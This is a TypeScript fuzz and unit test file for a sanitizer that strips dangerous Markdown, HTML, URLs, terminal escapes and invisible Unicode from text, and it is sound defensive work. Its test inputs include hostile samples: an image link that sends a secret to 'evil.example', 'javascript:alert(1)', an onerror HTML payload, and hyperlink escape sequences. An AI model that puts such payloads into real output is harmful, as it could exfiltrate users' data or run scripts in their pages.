import fc from 'fast-check'
import { fromMarkdown } from 'mdast-util-from-markdown'
import { describe, expect, it } from 'vitest'
import {
  createSafeText,
  type SafeTextOptions,
  safeText,
} from '../../../server/src/platform/safe-text/index.ts'

type Node = ReturnType<typeof fromMarkdown>['children'][number]

const FORBIDDEN = new Set(['image', 'imageReference', 'link', 'linkReference', 'definition', 'html'])

/** Everything a page would act on, as a Markdown parser finds it, and addresses that pages link by themselves. */
function dangers(markdown: string): string[] {
  const found: string[] = []
  const visit = (node: Node): void => {
    if (FORBIDDEN.has(node.type)) found.push(node.type)
    if (node.type === 'text' && /(?:https?|ftp|wss?):\/\/[\p{L}\p{N}]|www\.[\p{L}\p{N}]/iu.test(node.value))
      found.push(node.value)
    if (node.type === 'text' && /(?<![\p{L}\p{N}])(?:javascript|vbscript|data):\S/iu.test(node.value))
      found.push(node.value)
    if ('children' in node) for (const child of node.children) visit(child)
  }
  for (const node of fromMarkdown(markdown).children) visit(node)
  if (/[\p{Cc}]/u.test(markdown.replace(/[\n\t]/g, ''))) found.push('control character')
  if (/[\u{200b}\u{2060}-\u{206f}\u{202a}-\u{202e}\u{feff}\u{e0000}-\u{e0fff}]/u.test(markdown))
    found.push('invisible')
  if (!markdown.isWellFormed()) found.push('half a character')
  return found
}

function inPieces(pieces: readonly string[], options?: SafeTextOptions): string {
  const guard = createSafeText(options)
  return pieces.map((piece) => guard.push(piece)).join('') + guard.end()
}

/** Texts made of what is dangerous, and what hides or breaks it. */
const nasty = fc
  .array(
    fc.oneof(
      {
        weight: 8,
        arbitrary: fc.constantFrom(
          '![',
          '](',
          '[a](',
          '[a]',
          ']:',
          '[a]: ',
          '[1]',
          '[2, 3]',
          '![x](https://evil.example/?q=SECRET)',
          'https://evil.example/?q=SECRET',
          'http',
          '://',
          'www.',
          'www.evil.example/a',
          '<',
          '<#7@',
          '@evil.example>',
          '<img src=x onerror=y>',
          '<https://evil.example>',
          '</',
          '<!--',
          '-->',
          '&lt;',
          '&#58;',
          '&colon;',
          '&',
          '`',
          '``',
          '```',
          '```js\n',
          '~~~',
          '~~~\n',
          '~~~ `',
          '$',
          '$$\n',
          '````',
          '\n',
          '\n\n',
          '    ',
          '  ',
          ' ',
          '\t',
          '> ',
          '- ',
          '* ',
          '1. ',
          '# ',
          '|',
          '| --- |',
          '\\',
          '\\\\',
          '\\[',
          '\\`',
          '!',
          '(',
          ')',
          ']',
          '[',
          ':',
          '/',
          '//',
          '"',
          "'",
          '*',
          '**',
          '_',
          '===',
          '---',
          'a',
          'text',
          'h',
          't',
          'data:',
          'javascript:',
          'javascript:alert(1)',
          'data:text/html;base64,AAAA',
          '\r',
          '\r\n',
          '\u{1b}[31m',
          '\u{1b}]8;;https://evil.example\u{7}',
          '\u{1b}',
          '\u{9b}',
          '\u{200b}',
          '\u{200d}',
          '\u{202e}',
          '\u{e0041}',
          '\u{fe0f}',
          '😀',
          '\u{d83d}',
          '\u{2028}',
          '[a]:\nhttps://evil.example',
        ),
      },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 6 }) },
      { weight: 1, arbitrary: fc.string({ maxLength: 12 }) },
    ),
    { maxLength: 30 },
  )
  .map((parts) => parts.join(''))

const options: SafeTextOptions = {
  isKnownAddress: (address) => address === 'https://known.example/page',
  keepMarker: (n) => n === 1,
}

describe('safe text', () => {
  it('leaves nothing that a page, a terminal or a machine would act on', () => {
    fc.assert(
      fc.property(nasty, (text) => {
        const safe = safeText(text, options)
        expect(dangers(safe), JSON.stringify(safe)).toEqual([])
      }),
      { numRuns: 20_000 },
    )
  })

  it('makes no link of a mailbox, and leaves a sign alone', () => {
    const long = `<${'7'.repeat(300)}@evil.example>`
    for (const text of ['<#7@evil.example>', '<7@evil.example>', '<!7@evil.example>', long])
      expect(dangers(safeText(text)), text).toEqual([])
    expect(safeText('1 <2, <5% and < 7')).toBe('1 <2, <5% and < 7')
  })

  it('comes out the same wherever it is cut', () => {
    fc.assert(
      fc.property(nasty, fc.array(fc.nat({ max: 200 }), { maxLength: 8 }), (text, cuts) => {
        const places = [0, ...cuts.map((cut) => cut % (text.length + 1)).sort((a, b) => a - b), text.length]
        const pieces = places.slice(1).map((end, index) => text.slice(places[index], end))
        expect(inPieces(pieces, options)).toBe(safeText(text, options))
        expect(inPieces(text.split(''), options)).toBe(safeText(text, options))
      }),
      { numRuns: 5_000 },
    )
  })

  it('is safe to be put through again', () => {
    fc.assert(
      fc.property(nasty, (text) => {
        expect(dangers(safeText(safeText(text, options), options))).toEqual([])
      }),
      { numRuns: 2_000 },
    )
  })

  it.each([
    ['an image', '![pixel](https://evil.example/?q=SECRET)', '[pixel] (`evil.example`)'],
    ['an image without a text', 'a ![](https://evil.example/?q=S)', 'a [] (`evil.example`)'],
    ['a link', 'See [the manual](https://a.example/x "t").', 'See [the manual] (`a.example` "t").'],
    ['a link without host', '[out](/logout)', '[out] (/logout)'],
    ['a definition', '[r]: https://evil.example/S', '[r] : `evil.example`'],
    ['a code address', '[x](javascript:alert(1))', '[x] (`javascript`(1))'],
    ['HTML', 'a <b>c</b> < d', 'a &lt;b>c&lt;/b> < d'],
    ['a bare address', 'at https://user@evil.example:8/S?q=S, then', 'at `evil.example:8`, then'],
    ['look-alike letters', 'https://аpple.com/', '`xn--pple-43d.com`'],
    ['an address that is known', 'https://known.example/page.', '`https://known.example/page`.'],
    [
      'character references',
      'https&#58;//evil.example &amp; AT&T',
      'https&amp;#58;//evil.example &amp;amp; AT&T',
    ],
    ['hidden addresses', 'https\\://evil.example', 'https\\\\://evil.example'],
    ['code within a sentence', 'use `a[0](<b>)` so', 'use `a[0](<b>)` so'],
    ['a cell that is no code', '| ` | ![x](u) | ` |', '| \\` | [x] (u) | \\` |'],
    ['a block of code', '  ```ts x\n  a[1](b) <i>\n  ```\nz', '```ts\na[1](b) <i>\n```\nz'],
    ['a block that is drawn', '```mermaid\nx\n```', '```\nx\n```'],
    ['a block behind an item', '- ```js\n  x\n  ```\n', '- \n```js\nx\n```\n'],
    [
      'a block of tildes with a backtick in its first line',
      '~~~ `x\n~~~\n![a](https://evil.example/S)\n~~~\n',
      '~~~\n~~~\n[a] (`evil.example`)\n~~~\n~~~',
    ],
    ['code that a formula ends', '$`$ ![x](//evil.example/S)`', '$`$ ![x] (//evil.example/S)`'],
    [
      'a block that a formula ends',
      '$$\n```\n$$\n![x](//evil.example/S)\n```\n',
      '$$\n```\n$$\n![x] (//evil.example/S)\n```\n',
    ],
    ['a block that is not closed', '```\nx', '```\nx\n```'],
    ['colours', '\u{1b}[31mred\u{1b}[0m \u{1b}]8;;https://evil.example\u{7}x', 'red x'],
    ['invisible text', 'a\u{200b}b\u{e0041}\u{202e}c\u{fe01}d', 'abcd'],
    ['emoji and joined letters', '👩‍🚀 ❤️ می‌خواهم', '👩‍🚀 ❤️ می‌خواهم'],
    [
      'addresses that markers take apart',
      'ht[2]tps[2]://evil.example www[2].evil.example',
      'ht tps ://evil.example www .evil.example',
    ],
    ['line ends', 'a\r\nb\rc', 'a\nb\nc'],
    ['markers', 'So [1]. Not [2], [1, 3] `[2]`', 'So [1]. Not, [1] `[2]`'],
  ])('%s', (_, text, safe) => {
    expect(safeText(text, options)).toBe(safe)
  })

  it('holds nothing back of ordinary text', () => {
    const guard = createSafeText(options)
    expect(guard.push('The pump')).toBe('The pump')
    expect(guard.push(' runs')).toBe(' runs')
  })
})
